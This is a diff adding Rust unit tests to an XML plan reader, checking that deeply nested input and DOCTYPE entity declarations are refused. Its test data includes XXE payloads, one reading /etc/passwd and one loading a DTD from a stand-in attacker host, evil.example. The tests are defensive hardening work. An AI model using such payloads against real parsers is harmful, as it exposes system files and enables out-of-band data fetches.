@@ -252,3 +252,49 @@ fn an_unknown_status_is_a_problem_and_a_missing_one_is_not_started() {
         "{found:?}"
     );
 }
+
+/// `depth` nested elements inside a plan's root.
+fn nested(depth: usize) -> String {
+    let mut xml = String::from("<PerformancePlanOrReport>");
+    xml.push_str(&"<a>".repeat(depth));
+    xml.push_str(&"</a>".repeat(depth));
+    xml.push_str("</PerformancePlanOrReport>");
+    xml
+}
+
+#[test]
+fn a_file_nested_a_hundred_thousand_deep_is_refused_without_recursing() {
+    let deep = nested(100_000);
+    assert_eq!(check_shape(&deep), Some(ShapeProblem::TooDeep));
+    let err = read(&deep).unwrap_err().0;
+    assert!(err.contains("more than 64 levels deep"), "{err}");
+    assert!(err.contains(&MAX_DEPTH.to_string()));
+    // Unclosed, too: refused before any tree deeper than the limit exists.
+    let unclosed = "<a>".repeat(100_000);
+    assert_eq!(check_shape(&unclosed), Some(ShapeProblem::TooDeep));
+    assert!(read(&unclosed).unwrap_err().0.contains("levels deep"));
+    // At the limit the file is read (and refused for what it lacks, not for depth).
+    let at_limit = nested(MAX_DEPTH - 1);
+    assert_eq!(check_shape(&at_limit), None);
+    assert!(!read(&at_limit).unwrap_err().0.contains("levels deep"));
+}
+
+#[test]
+fn any_entity_declaration_or_internal_subset_is_refused() {
+    let plan = write(&sample());
+    let body = plan.trim_start_matches(|c| c != '\n');
+    for doctype in [
+        r#"<!DOCTYPE PerformancePlanOrReport [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>"#,
+        r#"<!DOCTYPE PerformancePlanOrReport [<!ENTITY % p SYSTEM "http://evil.example/x.dtd"> %p;]>"#,
+        r#"<!DOCTYPE PerformancePlanOrReport [<!ELEMENT Name ANY>]>"#,
+    ] {
+        let xml = format!("<?xml version=\"1.0\"?>\n{doctype}{body}");
+        assert_eq!(check_shape(&xml), Some(ShapeProblem::Entities), "{doctype}");
+        let err = read(&xml).unwrap_err().0;
+        assert!(err.contains("declares entities"), "{doctype}: {err}");
+    }
+    // A plain DOCTYPE naming the root declares nothing and is read.
+    let xml = format!("<?xml version=\"1.0\"?>\n<!DOCTYPE PerformancePlanOrReport>{body}");
+    assert_eq!(check_shape(&xml), None);
+    assert!(read(&xml).is_ok());
+}
